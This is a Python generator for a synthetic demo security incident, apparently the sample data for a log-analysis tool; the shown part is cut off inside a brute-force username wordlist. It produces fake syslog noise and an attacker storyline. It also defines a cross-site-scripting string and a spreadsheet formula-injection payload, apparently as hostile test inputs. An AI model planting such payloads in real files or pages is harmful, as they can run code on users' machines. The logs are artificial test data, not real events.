#!/usr/bin/env python3
"""Generate Tideline's bundled demo incident (synthetic syslog files).

Everything written by this script is synthetic and released under CC0.
Python 3.11+, standard library only.  Deterministic: a fixed seed, no clock
reads, no locale-dependent formatting, LF line endings.  Running it twice
gives byte-identical files.

Usage (from anywhere):
    python3 sample-data/generate.py           # (re)write all files
    python3 sample-data/generate.py --check   # regenerate in memory, compare,
                                              # exit 1 if anything differs

Outputs (paths relative to sample-data/):
    incident-2026-03/bastion-01/auth.log
    incident-2026-03/bastion-01/messages-rfc5424.log
    incident-2026-03/bastion-01/malformed.log
    incident-2026-03/web-01/syslog
    incident-2026-03/db-01/auth.log
    incident-2026-03/EXPECTED.md      facts for tests (computed from the files)
    incident-2026-03/expected.json    the same facts, machine-readable
    rollover/syslog-newyear.log
    README.md                         only the blocks between
                                      <!-- BEGIN GENERATED: x --> markers
"""

from __future__ import annotations

import argparse
import hashlib
import itertools
import json
import re
import sys
from dataclasses import dataclass, field
from datetime import datetime, timedelta, timezone
from pathlib import Path
import random

SEED = 20260314
UTC = timezone.utc
ROOT = Path(__file__).resolve().parent
MONTHS = ["Jan", "Feb", "Mar", "Apr", "May", "Jun",
          "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"]

ATTACKER_IP = "203.0.113.45"      # brute force / interactive attacker
DROP_IP = "198.51.100.7"          # payload + exfiltration server
BASTION_IP = "10.20.0.5"
WEB_IP = "10.20.0.7"
DB_IP = "10.20.0.9"
ALICE_WS = "10.20.0.11"
BOB_WS = "10.20.0.12"
CI_IP = "10.20.0.30"
MAILRELAY = "10.20.0.25"

HOSTILE_SCRIPT = "<script>alert(1)</script>"
HOSTILE_CSV = "=cmd|' /C calc'!A0"

START = datetime(2026, 3, 11, 18, 0, 0, tzinfo=UTC)
END = datetime(2026, 3, 14, 18, 0, 0, tzinfo=UTC)
# alice turns PasswordAuthentication off on bastion-01 (sshd reload)
PASSWORD_AUTH_OFF = datetime(2026, 3, 14, 8, 58, 5, 740000, tzinfo=UTC)


def R(name: str) -> random.Random:
    """A named, independently seeded RNG (str seeds are hashed with SHA-512,
    so they do not depend on PYTHONHASHSEED)."""
    return random.Random(f"{SEED}:{name}")


def at(s: str) -> datetime:
    return datetime.fromisoformat(s).replace(tzinfo=UTC)


def sec(x: float) -> timedelta:
    return timedelta(seconds=x)


# --------------------------------------------------------------------------
# Lazily numbered things (PIDs, logind sessions, audit serials).  They get
# their numbers in time order when the host's events are walked, so PIDs and
# session ids grow over time like on a real machine.
# --------------------------------------------------------------------------

class Lazy:
    __slots__ = ("kind", "value")

    def __init__(self, kind: str, value: int | None = None):
        self.kind = kind
        self.value = value

    def __format__(self, spec: str) -> str:
        if self.value is None:
            raise RuntimeError(f"unassigned {self.kind}")
        return format(self.value, spec)

    def __str__(self) -> str:
        return format(self, "")


def P(value: int | None = None) -> Lazy:
    return Lazy("pid", value)


def S() -> Lazy:
    return Lazy("session")


class Host:
    def __init__(self, name: str, pid_start: int, pid_rate: float,
                 counters: dict[str, int], boot: datetime | None = None):
        self.name = name
        self.pid_next = pid_start
        self.pid_rate = pid_rate       # background PIDs consumed per second
        self.counters = dict(counters)
        self.boot = boot
        self.rng = R(f"host:{name}")

    def uptime(self, ts: datetime) -> str:
        d = ts - self.boot
        us = d.days * 86400 * 1_000_000 + d.seconds * 1_000_000 + d.microseconds
        return f"[{us // 1_000_000:5d}.{us % 1_000_000:06d}]"


@dataclass
class FileSpec:
    rel: str
    host: Host
    fmt: str              # "3164", "iso", "5424", "hidden"


@dataclass
class Event:
    file: FileSpec
    ts: datetime
    sort_ts: datetime
    order: int
    prog: str
    proc: object          # Lazy, int or None
    fmt: str
    args: dict
    tags: tuple
    extra: dict = field(default_factory=dict)

    def lazies(self):
        if isinstance(self.proc, Lazy):
            yield self.proc
        for v in self.args.values():
            if isinstance(v, Lazy):
                yield v
        for v in self.extra.get("sd_args", {}).values():
            if isinstance(v, Lazy):
                yield v


EVENTS: list[Event] = []
_ORDER = itertools.count()


def emit(f: FileSpec, ts: datetime, prog: str, msg: str, proc=None,
         tags=(), sort_ts: datetime | None = None, **kw) -> Event:
    """Add one log line.  `msg` is a str.format template filled from kw
    (Lazy objects are allowed as values).  Keys starting with x_ go to extra."""
    extra = {k[2:]: v for k, v in kw.items() if k.startswith("x_")}
    args = {k: v for k, v in kw.items() if not k.startswith("x_")}
    if isinstance(tags, str):
        tags = (tags,)
    ev = Event(f, ts, sort_ts or ts, next(_ORDER), prog, proc, msg, args,
               tuple(tags), extra)
    EVENTS.append(ev)
    return ev


def spawn(host_hidden: FileSpec, ts: datetime, proc: Lazy):
    """Allocate a PID at `ts` for a process that logs nothing itself."""
    emit(host_hidden, ts, "", "", proc=proc)


def assign_numbers(host: Host, events: list[Event]):
    last = None
    for ev in sorted(events, key=lambda e: (e.sort_ts, e.order)):
        for lz in ev.lazies():
            if lz.value is not None:
                continue
            if lz.kind == "pid":
                if last is not None:
                    gap = (ev.ts - last).total_seconds() * host.pid_rate
                    host.pid_next += int(gap)
                host.pid_next += host.rng.randint(1, 4)
                last = ev.ts
                lz.value = host.pid_next
            else:
                step = 1
                if lz.kind == "auditseq":
                    step = host.rng.randint(3, 40)
                host.counters[lz.kind] += step
                lz.value = host.counters[lz.kind]


# --------------------------------------------------------------------------
# Rendering
# --------------------------------------------------------------------------

def ts3164(ts: datetime) -> str:
    return f"{MONTHS[ts.month - 1]} {ts.day:2d} {ts:%H:%M:%S}"


def tsiso(ts: datetime) -> str:
    return f"{ts:%Y-%m-%dT%H:%M:%S}.{ts.microsecond:06d}+00:00"


def ts5424(ts: datetime) -> str:
    return f"{ts:%Y-%m-%dT%H:%M:%S}.{ts.microsecond // 1000:03d}Z"


def render(ev: Event) -> str:
    if "raw" in ev.extra:
        return ev.extra["raw"].format(**ev.args) if ev.args else ev.extra["raw"]
    msg = ev.fmt.format(**ev.args) if ev.args else ev.fmt
    host = ev.file.host.name
    if ev.file.fmt == "5424":
        sd = ev.extra.get("sd", "-")
        if ev.extra.get("sd_args"):
            sd = sd.format(**ev.extra["sd_args"])
        procid = "-" if ev.proc is None else f"{ev.proc}"
        return (f"<{ev.extra['pri']}>1 {ts5424(ev.ts)} {host} {ev.prog} "
                f"{procid} {ev.extra.get('msgid', '-')} {sd} {msg}")
    tag = ev.prog if ev.proc is None else f"{ev.prog}[{ev.proc}]"
    stamp = ts3164(ev.ts) if ev.file.fmt == "3164" else tsiso(ev.ts)
    return f"{stamp} {host} {tag}: {msg}"


# --------------------------------------------------------------------------
# Hosts and files
# --------------------------------------------------------------------------

INC = "incident-2026-03"


def init_world():
    """(Re)create hosts and files, so that every build starts from scratch."""
    global BASTION, WEB, DB, FRAG, EDGE, F_BAUTH, F_B5424, F_BMAL, F_WEB, \
        F_DB, F_ROLL, H_BASTION, H_DB, H_WEB, OUTPUT_FILES
    BASTION = Host("bastion-01", 38410, 0.031,
                   {"session": 1183, "auditseq": 81200},
                   boot=at("2026-02-27 04:12:33.410211"))
    WEB = Host("web-01", 51877, 0.074, {"session": 611},
               boot=at("2026-03-02 05:40:07.118305"))
    DB = Host("db-01", 22064, 0.017, {"session": 402},
              boot=at("2026-02-19 03:15:51.902117"))
    # malformed.log: bastion-01 again, right after auth.log ends; its PID
    # counter is continued from BASTION's in build()
    FRAG = Host("bastion-01", 0, 0.031, {"session": 0})
    EDGE = Host("edge-01", 99310, 0.05, {"session": 77},
                boot=at("2025-12-20 09:01:12.004120"))
    F_BAUTH = FileSpec(f"{INC}/bastion-01/auth.log", BASTION, "3164")
    F_B5424 = FileSpec(f"{INC}/bastion-01/messages-rfc5424.log", BASTION, "5424")
    F_BMAL = FileSpec(f"{INC}/bastion-01/malformed.log", FRAG, "3164")
    F_WEB = FileSpec(f"{INC}/web-01/syslog", WEB, "3164")
    F_DB = FileSpec(f"{INC}/db-01/auth.log", DB, "iso")
    F_ROLL = FileSpec("rollover/syslog-newyear.log", EDGE, "3164")
    H_BASTION = FileSpec("", BASTION, "hidden")
    H_DB = FileSpec("", DB, "hidden")
    H_WEB = FileSpec("", WEB, "hidden")
    OUTPUT_FILES = [F_BAUTH, F_WEB, F_DB, F_B5424, F_BMAL, F_ROLL]

# long-running daemons (fixed PIDs)
SSHD_MAIN = {"bastion-01": 688, "db-01": 701}
LOGIND = {"bastion-01": 612, "db-01": 598, "web-01": 604}
CROND = {"bastion-01": 598, "db-01": 571}
AUDITD = 743
QMGR = 1187

USERS = {
    "alice": {"uid": 1000, "key": "ED25519 SHA256:q7WcV3l0m1s8dJ8xZ0bq0cHnX6rW2pTg1Yk9vN4uE3A"},
    "bob": {"uid": 1001, "key": "RSA SHA256:Lk2p9Qm4Yt7Hc1rVx8Zf3Ns6Bw0Ge5Ju2Da9Ko4Tq1"},
    "deploy": {"uid": 1002, "key": "ED25519 SHA256:Zr3xC8vB1nM6aS9dF2gH5jK0lQ7wE4rT1yU8iO3pL6c"},
}
ROOT_BASTION_KEY = "ED25519 SHA256:Hm8Kd2Lq5Vz0Xc7Bn4Ma1Sf6Gh9Jk3Pw2Ry5Tu8Io0E"


# --------------------------------------------------------------------------
# Building blocks
# --------------------------------------------------------------------------

def cron_job(f: FileSpec, t: datetime, user: str, uid: int, cmd: str,
             dur: float, pam: bool = True, tags=()):
    """A cron job.  auth.log files on this estate also receive cron.* (see
    README), so they carry the pam_unix(cron:session) pair and the CMD line."""
    p = P()
    if pam:
        emit(f, t, "CRON", "pam_unix(cron:session): session opened for user "
             f"{user}(uid={uid}) by (uid=0)", p)
    emit(f, t + sec(0.002), "CRON", "({user}) CMD ({cmd})", p, tags,
         user=user, cmd=cmd)
    if pam:
        emit(f, t + sec(dur), "CRON",
             f"pam_unix(cron:session): session closed for user {user}", p)


def sudo(f: FileSpec, t: datetime, user: str, uid: int, cmd: str,
         dur: float = 0.6, tty: str = "pts/0", pwd: str | None = None,
         tags=(), runas: str = "root"):
    pwd = pwd or (f"/home/{user}")
    emit(f, t, "sudo",
         "{u:>8} : TTY={tty} ; PWD={pwd} ; USER={runas} ; COMMAND={cmd}",
         None, tags, u=user, tty=tty, pwd=pwd, runas=runas, cmd=cmd)
    if cmd != "list":
        emit(f, t + sec(0.004), "sudo", "pam_unix(sudo:session): session "
             f"opened for user root(uid=0) by {user}(uid={uid})")
        emit(f, t + sec(dur), "sudo",
             "pam_unix(sudo:session): session closed for user root")


@dataclass
class Sess:
    f: FileSpec
    user: str
    uid: int
    ip: str
    port: int
    pid: Lazy
    sid: Lazy


def ssh_open(f: FileSpec, t: datetime, user: str, ip: str, port: int,
             method: str = "publickey", key: str | None = None,
             user_manager: bool = True, tags=(), uid: int | None = None,
             pid: Lazy | None = None) -> Sess:
    uid = USERS[user]["uid"] if uid is None else uid
    p = pid or P()
    sid = S()
    suffix = ""
    if method == "publickey":
        suffix = ": " + (key or USERS[user]["key"])
    emit(f, t, "sshd",
         "Accepted {m} for {u} from {ip} port {port} ssh2{suffix}", p, tags,
         m=method, u=user, ip=ip, port=port, suffix=suffix)
    emit(f, t + sec(0.011), "sshd", "pam_unix(sshd:session): session opened "
         f"for user {user}(uid={uid}) by (uid=0)", p)
    emit(f, t + sec(0.024), "systemd-logind", "New session {sid} of user "
         f"{user}.", LOGIND[f.host.name], sid=sid)
    if user_manager:
        emit(f, t + sec(0.061), "(systemd)", "pam_unix(systemd-user:session): "
             f"session opened for user {user}(uid={uid}) by (uid=0)", P())
    return Sess(f, user, uid, ip, port, p, sid)


def ssh_close(s: Sess, t: datetime, client: bool = True, tags=()):
    f = s.f
    if client:
        emit(f, t, "sshd", "Received disconnect from {ip} port {port}:11: "
             "disconnected by user", s.pid, tags, ip=s.ip, port=s.port)
        emit(f, t + sec(0.001), "sshd", "Disconnected from user {u} {ip} port "
             "{port}", s.pid, u=s.user, ip=s.ip, port=s.port)
    emit(f, t + sec(0.004), "sshd", "pam_unix(sshd:session): session closed "
         f"for user {s.user}", s.pid, () if client else tags)
    lg = LOGIND[f.host.name]
    emit(f, t + sec(0.009), "systemd-logind",
         "Session {sid} logged out. Waiting for processes to exit.", lg,
         sid=s.sid)
    emit(f, t + sec(0.021), "systemd-logind", "Removed session {sid}.", lg,
         sid=s.sid)


def web_session(t0: datetime, t1: datetime, user: str):
    """What an SSH session on web-01 leaves in /var/log/syslog (the auth
    lines go to auth.log, which is not part of this data set)."""
    uid = USERS[user]["uid"]
    sid = S()
    um = P()
    f = F_WEB
    emit(f, t0 + sec(0.03), "systemd", f"Created slice user-{uid}.slice - "
         f"User Slice of UID {uid}.", 1)
    emit(f, t0 + sec(0.05), "systemd", f"Starting user@{uid}.service - "
         f"User Manager for UID {uid}...", 1)
    spawn(H_WEB, t0 + sec(0.06), um)
    emit(f, t0 + sec(0.21), "systemd", f"Started user@{uid}.service - "
         f"User Manager for UID {uid}.", 1)
    emit(f, t0 + sec(0.23), "systemd", "Started session-{sid}.scope - "
         f"Session {{sid}} of User {user}.", 1, sid=sid)
    emit(f, t1, "systemd", "session-{sid}.scope: Deactivated successfully.",
         1, sid=sid)
    emit(f, t1 + sec(10.1), "systemd", f"Stopping user@{uid}.service - "
         f"User Manager for UID {uid}...", 1)
    emit(f, t1 + sec(10.2), "systemd", f"user@{uid}.service: Deactivated "
         "successfully.", 1)
    emit(f, t1 + sec(10.2), "systemd", f"Stopped user@{uid}.service - "
         f"User Manager for UID {uid}.", 1)
    emit(f, t1 + sec(10.3), "systemd", f"Removed slice user-{uid}.slice - "
         f"User Slice of UID {uid}.", 1)


def unit_run(f: FileSpec, t: datetime, unit: str, desc: str, dur: float,
             cpu: float | None = None):
    emit(f, t, "systemd", f"Starting {unit} - {desc}...", 1)
    emit(f, t + sec(dur), "systemd", f"{unit}: Deactivated successfully.", 1)
    if cpu is not None:
        emit(f, t + sec(dur + 0.001), "systemd",
             f"{unit}: Consumed {cpu:.3f}s CPU time.", 1)
    emit(f, t + sec(dur + 0.002), "systemd", f"Finished {unit} - {desc}.", 1)


def ufw(f: FileSpec, t: datetime, host: Host, src: str, dst: str, spt: int,
        dpt: int, rng: random.Random, direction: str = "in", ttl: int = 49,
        tags=(), sort_ts=None, iface: str = "ens18"):
    if direction == "in":
        io = f"IN={iface} OUT= MAC=52:54:00:1e:0a:0{host.name[-1]}:52:54:00:" \
             f"9f:31:c2:08:00"
    else:
        io = f"IN= OUT={iface}"
    body = (f"[UFW BLOCK] {io} SRC={src} DST={dst} LEN=60 TOS=0x00 PREC=0x00 "
            f"TTL={ttl} ID={rng.randint(1000, 65000)} DF PROTO=TCP SPT={spt} "
            f"DPT={dpt} WINDOW={rng.choice([64240, 29200, 65535, 1024])} "
            "RES=0x00 SYN URGP=0")
    if f.fmt == "5424":
        emit(f, t, "kernel", body, None, tags, sort_ts=sort_ts, x_pri=4)
    else:
        emit(f, t, "kernel", host.uptime(t) + " " + body, None, tags,
             sort_ts=sort_ts)


def audit(t: datetime, msgid: str, body: str, tags=(), sd: str | None = None,
          sd_args: dict | None = None, pri: int = 86, **kw):
    """An auditd record forwarded to the SIEM in RFC 5424."""
    seq = Lazy("auditseq")
    epoch = int(t.timestamp())
    ms = t.microsecond // 1000
    emit(F_B5424, t, "auditd", "type={mt} msg=audit({ep}.{ms:03d}:{seq}): " + body,
         AUDITD, tags, mt=msgid, ep=epoch, ms=ms, seq=seq,
         x_pri=pri, x_msgid=msgid,
         x_sd=sd if sd is not None else f'[origin ip="{BASTION_IP}"]',
         x_sd_args=sd_args or {}, **kw)


def hexarg(s: str) -> str:
    return s.encode().hex().upper()


# --------------------------------------------------------------------------
# Background noise
# --------------------------------------------------------------------------

def hours(start: datetime, end: datetime):
    t = start.replace(minute=0, second=0, microsecond=0)
    while t < end:
        yield t
        t += timedelta(hours=1)


def every(start: datetime, end: datetime, minutes: int, offset: int = 0):
    t = start.replace(minute=0, second=0, microsecond=0) + timedelta(minutes=offset)
    while t < end:
        if t >= start:
            yield t
        t += timedelta(minutes=minutes)


def cron_noise():
    rng = R("cron")
    # bastion-01 and db-01: auth.log also holds cron.*
    for f, host in ((F_BAUTH, "bastion-01"), (F_DB, "db-01")):
        for h in hours(START, END):
            t = h + timedelta(minutes=17) + sec(1 + rng.random() * 0.3)
            cron_job(f, t, "root", 0, "cd / && run-parts --report /etc/cron.hourly",
                     0.2 + rng.random() * 0.4)
        for d in (at("2026-03-12 06:25:01"), at("2026-03-13 06:25:01"),
                  at("2026-03-14 06:25:01")):
            cron_job(f, d + sec(rng.random() * 0.3), "root", 0,
                     "test -x /usr/sbin/anacron || { cd / && run-parts "
                     "--report /etc/cron.daily; }", 20 + rng.random() * 30)
    for t in every(START, END, 120, 42):
        cron_job(F_BAUTH, t + sec(1 + rng.random() * 0.2), "root", 0,
                 "/usr/local/sbin/sync-authorized-keys >/dev/null 2>&1",
                 1.5 + rng.random() * 2)
    for t in every(START, END, 30, 10):
        cron_job(F_DB, t + sec(1 + rng.random() * 0.2), "prometheus", 998,
                 "/usr/local/bin/mysql-textfile-metrics.sh "
                 "/var/lib/prometheus/node-exporter", 0.8 + rng.random())
    for d in (at("2026-03-12 01:30:01"), at("2026-03-13 01:30:01"),
              at("2026-03-14 01:30:01")):
        cron_job(F_DB, d + sec(rng.random() * 0.2), "root", 0,
                 "/usr/local/sbin/mysql-backup.sh >/var/log/mysql-backup.log 2>&1",
                 200 + rng.random() * 60)

    # web-01 syslog: only the CMD lines (pam lines go to auth.log there)
    for h in hours(START, END):
        cron_job(F_WEB, h + timedelta(minutes=17) + sec(1 + rng.random() * 0.3),
                 "root", 0, "cd / && run-parts --report /etc/cron.hourly", 0,
                 pam=False)
    for t in every(START, END, 15):
        cron_job(F_WEB, t + sec(1 + rng.random() * 0.2), "www-data", 33,
                 "php /var/www/shop/bin/console messenger:consume async "
                 "--time-limit=840 >/dev/null 2>&1", 0, pam=False)
    for t in every(START, END, 30, 9):
        cron_job(F_WEB, t + sec(1 + rng.random() * 0.2), "root", 0,
                 "  [ -x /usr/lib/php/sessionclean ] && if [ ! -d "
                 "/run/systemd/system ]; then /usr/lib/php/sessionclean; fi",
                 0, pam=False)
        unit_run(F_WEB, t + sec(0.01 + rng.random() * 0.05),
                 "phpsessionclean.service", "Clean php session files",
                 0.3 + rng.random() * 0.5)
    for d in (at("2026-03-12 06:25:01"), at("2026-03-13 06:25:01"),
              at("2026-03-14 06:25:01")):
        cron_job(F_WEB, d + sec(rng.random() * 0.3), "root", 0,
                 "test -x /usr/sbin/anacron || { cd / && run-parts --report "
                 "/etc/cron.daily; }", 0, pam=False)


def web_noise():
    rng = R("web")
    f = F_WEB
    for day in (at("2026-03-12 00:00:00"), at("2026-03-13 00:00:00"),
                at("2026-03-14 00:00:00")):
        t = day + sec(0.2 + rng.random() * 0.2)
        unit_run(f, t, "dpkg-db-backup.service",
                 "Daily dpkg database backup service", 0.4 + rng.random() * 0.3)
        t2 = day + sec(0.3 + rng.random() * 0.2)
        emit(f, t2, "systemd", "Starting logrotate.service - Rotate log files...", 1)
        emit(f, t2 + sec(0.9), "systemd", "Reloading nginx.service - A high "
             "performance web server and a reverse proxy server...", 1)
        emit(f, t2 + sec(1.0), "systemd", "Reloaded nginx.service - A high "
             "performance web server and a reverse proxy server.", 1)
        emit(f, t2 + sec(1.3), "rsyslogd", '[origin software="rsyslogd" '
             'swVersion="8.2302.0" x-pid="583" x-info="https://www.rsyslog.com"]'
             ' rsyslogd was HUPed', None)
        emit(f, t2 + sec(1.6), "systemd", "logrotate.service: Deactivated "
             "successfully.", 1)
        emit(f, t2 + sec(1.6), "systemd", "Finished logrotate.service - "
             "Rotate log files.", 1)
        # apt timers (randomised like apt-daily.timer)
        ta = day + timedelta(hours=rng.randint(7, 19), minutes=rng.randint(0, 59),
                             seconds=rng.randint(0, 59))
        if START < ta < END:
            unit_run(f, ta, "apt-daily.service", "Daily apt download activities",
                     6 + rng.random() * 8, cpu=2 + rng.random() * 3)
        tu = day + timedelta(hours=6, minutes=rng.randint(0, 50),
                             seconds=rng.randint(0, 59))
        unit_run(f, tu, "apt-daily-upgrade.service",
                 "Daily apt upgrade and clean activities", 3 + rng.random() * 4,
                 cpu=1 + rng.random() * 2)
        tt = day + timedelta(hours=rng.randint(0, 23), minutes=rng.randint(0, 59))
        if START < tt < END:
            unit_run(f, tt, "systemd-tmpfiles-clean.service",
                     "Cleanup of Temporary Directories", 0.05 + rng.random() * 0.1)
        tm = day + timedelta(hours=rng.randint(0, 23), minutes=rng.randint(0, 59))
        if START < tm < END:
            unit_run(f, tm, "man-db.service", "Daily man-db regeneration",
                     1 + rng.random(), cpu=0.4 + rng.random() * 0.4)
    # e2scrub / fstrim weekly-ish one-offs
    unit_run(f, at("2026-03-12 01:04:18.221905"), "fstrim.service",
             "Discard unused blocks on filesystems from /etc/fstab", 2.7,
             cpu=0.012)

    # postfix: app + cron mails through the internal relay
    mails = []
    t = START + sec(rng.randint(900, 5000))
    while t < END:
        mails.append(t)
        t += sec(rng.randint(2 * 3600, 7 * 3600))
    for i, t in enumerate(mails):
        qid = "".join(rng.choice("0123456789ABCDEF") for _ in range(10))
        qid2 = "".join(rng.choice("0123456789ABCDEF") for _ in range(10))
        pick, clean, smtp = P(), P(), P()
        frm = "www-data" if i % 3 else "root"
        uid = 33 if frm == "www-data" else 0
        rcpt = "orders@example.com" if frm == "www-data" else "ops@example.com"
        size = rng.randint(900, 14000)
        emit(f, t, "postfix/pickup", f"{qid}: uid={uid} from=<{frm}>", pick)
        emit(f, t + sec(0.01), "postfix/cleanup", f"{qid}: message-id=<"
             f"{t:%Y%m%d%H%M%S}.{qid}@web-01.example.com>", clean)
        emit(f, t + sec(0.02), "postfix/qmgr", f"{qid}: from=<{frm}@web-01."
             f"example.com>, size={size}, nrcpt=1 (queue active)", QMGR)
        d1, d2, d3 = (round(rng.uniform(0.01, 0.09), 2),
                      round(rng.uniform(0.01, 0.05), 2),
                      round(rng.uniform(0.05, 0.3), 2))
        d4 = round(rng.uniform(0.02, 0.2), 2)
        tot = round(d1 + d2 + d3 + d4, 2)
        emit(f, t + sec(0.02 + tot), "postfix/smtp", f"{qid}: to=<{rcpt}>, "
             f"relay=mx-01.example.com[{MAILRELAY}]:25, delay={tot}, "
             f"delays={d1}/{d2}/{d3}/{d4}, dsn=2.0.0, status=sent (250 2.0.0 "
             f"Ok: queued as {qid2})", smtp)
        emit(f, t + sec(0.03 + tot), "postfix/qmgr", f"{qid}: removed", QMGR)

    # internet scanners hitting closed ports (all from 192.0.2.0/24)
    t = START + sec(rng.randint(300, 2400))
    while t < END:
        src = f"192.0.2.{rng.randint(100, 250)}"
        for k in range(rng.choice([1, 1, 2])):
            ufw(f, t + sec(k * 1.01), WEB, src, WEB_IP, rng.randint(32768, 60999),
                rng.choice([23, 3389, 5900, 8443, 6379, 2375, 445, 1433, 8088]),
                rng, ttl=rng.choice([43, 47, 50, 241, 242]))
        t += sec(rng.randint(1800, 6000))


def scanner_noise():
    """Low-rate internet SSH noise against bastion-01 (192.0.2.0/24)."""
    rng = R("scan")
    f = F_BAUTH
    names = ["admin", "user", "test", "oracle", "ubuntu", "postgres", "git",
             "guest", "ftpuser", "pi", "support", "hadoop"]
    t = START + sec(rng.randint(600, 3000))
    while t < END:
        # keep the attacker window clean of other noise so it reads clearly
        if at("2026-03-14 02:05:00") < t < at("2026-03-14 03:20:00"):
            t += sec(3600)
            continue
        ip = f"192.0.2.{rng.randint(100, 250)}"
        port = rng.randint(32768, 60999)
        p = P()
        kind = rng.choice(["closed", "closed", "kex", "invalid", "invalid",
                           "root", "banner"])
        if kind == "closed":
            emit(f, t, "sshd", f"Connection closed by {ip} port {port} [preauth]", p)
        elif kind == "kex":
            emit(f, t, "sshd", "error: kex_exchange_identification: Connection "
                 "closed by remote host", p)
            emit(f, t + sec(0.0004), "sshd",
                 f"Connection closed by {ip} port {port}", p)
        elif kind == "banner":
            emit(f, t, "sshd", f"banner exchange: Connection from {ip} port "
                 f"{port}: invalid format", p)
        elif kind == "invalid":
            u = rng.choice(names)
            emit(f, t, "sshd", f"Invalid user {u} from {ip} port {port}", p)
            if t > PASSWORD_AUTH_OFF:
                emit(f, t + sec(0.4), "sshd", f"Connection closed by invalid "
                     f"user {u} {ip} port {port} [preauth]", p)
            else:
                emit(f, t + sec(0.3), "sshd",
                     "pam_unix(sshd:auth): check pass; user unknown", p)
                emit(f, t + sec(0.3), "sshd", "pam_unix(sshd:auth): "
                     "authentication failure; logname= uid=0 euid=0 tty=ssh "
                     "ruser= rhost=" + ip, p)
                emit(f, t + sec(2.4), "sshd", f"Failed password for invalid "
                     f"user {u} from {ip} port {port} ssh2", p)
                emit(f, t + sec(2.7), "sshd", f"Received disconnect from {ip} "
                     f"port {port}:11: Bye Bye [preauth]", p)
                emit(f, t + sec(2.7), "sshd", f"Disconnected from invalid user "
                     f"{u} {ip} port {port} [preauth]", p)
        elif t > PASSWORD_AUTH_OFF:
            emit(f, t, "sshd", f"Connection closed by authenticating user root "
                 f"{ip} port {port} [preauth]", p)
        else:
            emit(f, t, "sshd", "pam_unix(sshd:auth): authentication failure; "
                 f"logname= uid=0 euid=0 tty=ssh ruser= rhost={ip}  user=root", p)
            emit(f, t + sec(2.1), "sshd", f"Failed password for root from {ip} "
                 f"port {port} ssh2", p)
            emit(f, t + sec(2.5), "sshd", f"Received disconnect from {ip} port "
                 f"{port}:11: Bye Bye [preauth]", p)
            emit(f, t + sec(2.5), "sshd", f"Disconnected from authenticating "
                 f"user root {ip} port {port} [preauth]", p)
        t += sec(rng.randint(1500, 7200))


ADMIN_CMDS = {
    "bastion-01": [
        ("/usr/bin/apt list --upgradable", 2.1),
        ("/usr/bin/journalctl -u ssh --since today", 14.0),
        ("/usr/bin/systemctl status ssh", 3.2),
        ("/usr/bin/tail -n 100 /var/log/auth.log", 4.0),
        ("/usr/sbin/ufw status numbered", 0.8),
        ("/usr/bin/vim /etc/ssh/sshd_config.d/10-hardening.conf", 95.0),
    ],
    "db-01": [
        ("/usr/bin/mysql -e SHOW PROCESSLIST", 1.2),
        ("/usr/bin/systemctl status mariadb", 2.5),
        ("/usr/bin/tail -n 50 /var/log/mysql-backup.log", 3.0),
        ("/usr/bin/du -sh /var/backups/mysql", 1.9),
        ("/usr/bin/journalctl -u mariadb --since -2h", 20.0),
    ],
    "web-01": [],
}


def admin_noise():
    rng = R("admins")
    days = [at("2026-03-12 00:00:00"), at("2026-03-13 00:00:00")]
    plan = []  # (start, user)
    for d in days:
        for user, n in (("alice", rng.randint(3, 4)), ("bob", rng.randint(2, 3))):
            slots = sorted(rng.sample(range(7 * 60 + 30, 17 * 60), n))
            last_end = None
            for m in slots:
                t = d + timedelta(minutes=m, seconds=rng.randint(0, 59),
                                  microseconds=rng.randint(0, 999999))
                if last_end and t < last_end + timedelta(minutes=2):
                    t = last_end + timedelta(minutes=3)
                dur = rng.randint(4 * 60, 55 * 60)
                plan.append((t, user, dur))
                last_end = t + sec(dur)
    # an evening on-call check by bob on Mar 11
    plan.append((at("2026-03-11 19:42:16.418230"), "bob", 9 * 60))
    for t, user, dur in sorted(plan):
        _admin_session(rng, t, user, dur)

    # CI deploys: deploy@10.20.0.30 with its key, ProxyJump through bastion-01
    for d in days:
        for m in sorted(rng.sample(range(9 * 60, 17 * 60), rng.randint(2, 3))):
            t = d + timedelta(minutes=m, seconds=rng.randint(0, 59),
                              microseconds=rng.randint(0, 999999))
            port = rng.randint(32768, 60999)
            s = ssh_open(F_BAUTH, t, "deploy", CI_IP, port, user_manager=False)
            dur = 25 + rng.random() * 50
            web_session(t + sec(0.6), t + sec(dur - 0.5), "deploy")
            emit(F_WEB, t + sec(dur * 0.6), "systemd", "Reloading php8.2-fpm."
                 "service - The PHP 8.2 FastCGI Process Manager...", 1)
            emit(F_WEB, t + sec(dur * 0.6 + 0.3), "systemd", "Reloaded php8.2-"
                 "fpm.service - The PHP 8.2 FastCGI Process Manager.", 1)
            ssh_close(s, t + sec(dur))


def _admin_session(rng, t, user, dur):
    ws = ALICE_WS if user == "alice" else BOB_WS
    uid = USERS[user]["uid"]
    s = ssh_open(F_BAUTH, t, user, ws, rng.randint(32768, 60999))
    cursor = t + sec(rng.randint(20, 90))
    for _ in range(rng.choice([0, 1, 1, 2])):
        cmd, d = rng.choice(ADMIN_CMDS["bastion-01"])
        sudo(F_BAUTH, cursor, user, uid, cmd, d + rng.random())
        cursor += sec(d + rng.randint(30, 200))
    end = t + sec(dur)
    hop = rng.choice([None, "web-01", "db-01", "db-01"])
    if hop and cursor + sec(300) < end:
        h0 = cursor + sec(rng.randint(5, 40))
        h1 = min(end - sec(20), h0 + sec(rng.randint(120, 1500)))
        if hop == "web-01":
            web_session(h0, h1, user)
        else:
            hs = ssh_open(F_DB, h0, user, BASTION_IP, rng.randint(32768, 60999))
            c = h0 + sec(rng.randint(15, 60))
            for _ in range(rng.choice([1, 1, 2])):
                cmd, d = rng.choice(ADMIN_CMDS["db-01"])
                if c + sec(d + 5) >= h1:
                    break
                sudo(F_DB, c, user, uid, cmd, d + rng.random())
                c += sec(d + rng.randint(20, 120))
            ssh_close(hs, h1)
    ssh_close(s, end)


# --------------------------------------------------------------------------
# The incident
# --------------------------------------------------------------------------

WORDLIST = [
    "admin", "test", "user", "ubuntu", "debian", "oracle", "postgres", "git",
    "ftpuser", "guest", "pi", "support", "ansible", "jenkins", "hadoop",
    "minecraft", "teamspeak", "deployer", "dev", "devops", "www", "webadmin",
    "backup", "nagios", "zabbix", "elastic", "steam", "vagrant", "centos",
    "ec2-user", "odoo", "sysadmin", "administrator", "tomcat", "mysql",
    "redis", "docker", "kafka", "gitlab", "user1", "test1", "demo",
    "operator", "server", "solr", "es", "ftp", "mongodb", "nginx", "apache",
    "student", "testuser", "ts3", "info", "sales", "office", "postfix",
